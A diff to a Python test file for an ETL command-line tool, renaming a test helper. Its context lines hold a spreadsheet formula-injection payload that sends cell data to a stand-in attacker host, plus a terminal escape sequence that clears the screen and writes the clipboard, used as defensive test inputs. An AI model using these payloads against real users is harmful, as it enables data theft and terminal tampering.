@@ -17,7 +17,7 @@ from click.testing import CliRunner
 
 from etl.cli import cli
 from etl.sandbox import Limits, Sandbox
-from tests.conftest import run_cxkpi
+from tests.conftest import invoke_cxkpi
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -107,7 +107,7 @@ def test_a_column_name_with_escapes_is_shown_escaped(sample_db):
 
 def test_a_refusal_quoting_the_data_prints_no_escape(sample_db):
     query = f"SELECT CAST({literal(chr(27) + '[2J' + chr(27) + ']52;c;eA==' + chr(7))} AS INTEGER)"
-    result = run_cxkpi("--db", str(sample_db), "sql", query)
+    result = invoke_cxkpi("--db", str(sample_db), "sql", query)
     assert result.returncode == 1
     assert "\x1b" not in result.stderr and "\x07" not in result.stderr
     assert result.stderr.strip().count("\n") == 0 and "\\x1b[2J" in result.stderr
